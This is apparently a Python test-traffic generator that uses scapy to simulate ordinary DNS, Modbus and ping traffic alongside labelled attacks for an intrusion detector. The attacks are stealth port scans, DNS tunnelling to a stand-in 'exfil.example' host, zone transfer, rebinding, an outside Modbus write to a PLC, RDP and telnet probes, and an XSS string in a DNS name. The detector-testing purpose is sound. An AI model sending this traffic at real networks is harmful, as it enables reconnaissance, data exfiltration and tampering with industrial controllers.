# SPDX-License-Identifier: GPL-2.0-only
"""Look-ups, polls and pings; attacks below the applications, over DNS, and at ports nobody outside should reach."""

import base64
from collections.abc import Callable, Iterator

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP
from scapy.packet import Raw
from scene import PLATFORMS, RESOLVER, SITES, Timed, Town

Attack = Callable[[Town], Iterator[Timed]]


def everyday(town: Town) -> Iterator[Timed]:
    """Look-ups of names, polls of machines, pings."""
    for _ in range(int(town.seconds * 4)):
        name, address = town.random.choice(SITES), town.outside()
        answers = [DNSRR(rrname=name, type="A", ttl=300, rdata=address)]
        yield from town.lookup(town.moment(), town.inside(), name, answers=answers)
    for _ in range(int(town.seconds)):
        plc, panel = "10.20.4.10", "10.20.4.200"
        poll, answer = bytes.fromhex("000100000006010300000002"), bytes.fromhex("000100000007010304002a0015")
        yield from town.visit(town.moment(), panel, plc, 502, poll, answer)
        here, there = town.inside(), town.inside()
        at = town.moment()
        yield at, town.frame(here, there, ICMP(type=8, id=7, seq=1) / Raw(b"x" * 32))
        yield at + 0.001, town.frame(there, here, ICMP(type=0, id=7, seq=1) / Raw(b"x" * 32))


def scan(flags: str) -> Attack:
    def attack(town: Town) -> Iterator[Timed]:
        attacker, victim, at = town.outside(), town.inside("computing"), town.moment()
        for step, port in enumerate((21, 22, 23, 80, 443, 445, 3389, 8080)):
            yield town.probe(at + step * 0.01, attacker, victim, port, flags)

    return attack


def tunnel(town: Town) -> Iterator[Timed]:
    """Data carried out in long encoded labels: base32 as iodine does, base64 as DNScat's kin do."""
    client, at = town.inside("trade"), town.moment()
    for step in range(6):
        low = base64.b32encode(town.random.randbytes(35)).decode().rstrip("=").lower()
        mixed = base64.b64encode(town.random.randbytes(33), altchars=b"-_").decode()
        yield from town.lookup(at + step * 0.3, client, f"{low}.t.exfil.example", "TXT")
        yield from town.lookup(at + step * 0.3 + 0.1, client, f"{mixed}.t.exfil.example", "TXT")


def rare_type(town: Town) -> Iterator[Timed]:
    yield from town.lookup(town.moment(), town.inside("agriculture"), "a.tunnel.example", "NULL")


def zone_transfer(town: Town) -> Iterator[Timed]:
    """The whole zone, answered to a stranger (RFC 5936)."""
    zone = "gov.example.cn"
    start = DNSRR(rrname=zone, type="NS", ttl=300, rdata="ns1.gov.example.cn")
    records = [start, DNSRR(rrname=f"vpn.{zone}", type="A", ttl=300, rdata="10.20.1.20"), start]
    asked = bytes(DNS(id=7, rd=0, qd=DNSQR(qname=zone, qtype="AXFR")))
    given = bytes(DNS(id=7, qr=1, aa=1, rd=0, qd=DNSQR(qname=zone, qtype="AXFR"), an=records))
    framed = [len(message).to_bytes(2) + message for message in (asked, given)]
    yield from town.visit(town.moment(), town.outside(), RESOLVER, 53, *framed)


def version_probe(town: Town) -> Iterator[Timed]:
    yield from town.lookup(town.moment(), town.outside(), "version.bind", "TXT", qclass="CH")


def onion(town: Town) -> Iterator[Timed]:
    name = "vpnexample2qhjn4wqqyqexampleexample.onion"
    yield from town.lookup(town.moment(), town.inside("tourism"), name, answers=[], code=3)


def rebinding(town: Town) -> Iterator[Timed]:
    name = "rebind.attacker.example.com"
    answers = [DNSRR(rrname=name, type="A", ttl=1, rdata="192.168.1.1")]
    yield from town.lookup(town.moment(), town.inside("access"), name, answers=answers)


def odd_port(town: Town) -> Iterator[Timed]:
    yield from town.lookup(
        town.moment(),
        town.inside("logistics"),
        "update.example.com",
        answers=[],
        server=town.outside(),
        port=5354,
    )


def plc_from_outside(town: Town) -> Iterator[Timed]:
    write = bytes.fromhex("000100000006010600010057")
    yield from town.visit(town.moment(), town.outside(), "10.20.4.10", 502, write, write)


def remote_desktop(town: Town) -> Iterator[Timed]:
    hello = bytes.fromhex("0300002c27e00000000000436f6f6b69653a206d737473686173683d610d0a0100080003000000")
    yield from town.visit(town.moment(), town.outside(), town.inside("callcentre"), 3389, hello, hello[:19])


def telnet(town: Town) -> Iterator[Timed]:
    yield from town.visit(
        town.moment(), town.outside(), town.inside("access"), 23, b"root\r\n", b"Password: "
    )


def markup_in_a_name(town: Town) -> Iterator[Timed]:
    """A hostile name that must stay inert on every screen."""
    name = "<img-src=x-onerror=alert(1)>.version.bind"
    yield from town.lookup(town.moment(), town.inside("tourism"), name, "NULL")


BURST_A_SECOND = 20


def burst(town: Town) -> Iterator[Timed]:
    """Evenly spaced look-ups of a rare type, each by another client: one alert each, for measuring latency."""
    clients = [network.format(host) for host in range(10, 250) for network in PLATFORMS.values()]
    for step in range(int(town.seconds * BURST_A_SECOND)):
        at = town.start + step / BURST_A_SECOND
        yield from town.lookup(at, clients[step % len(clients)], f"n{step}.tunnel.example", "NULL")


ATTACKS: dict[str, Attack] = {
    "scan-null": scan(""),
    "scan-fin": scan("F"),
    "scan-xmas": scan("FPU"),
    "scan-synfin": scan("SF"),
    "dns-tunnel": tunnel,
    "dns-rare-type": rare_type,
    "dns-zone-transfer": zone_transfer,
    "dns-version": version_probe,
    "dns-onion": onion,
    "dns-rebinding": rebinding,
    "dns-odd-port": odd_port,
    "ot-from-outside": plc_from_outside,
    "rdp-from-outside": remote_desktop,
    "telnet-from-outside": telnet,
    "markup": markup_in_a_name,
}
ON_REQUEST: dict[str, Attack] = {"burst": burst}
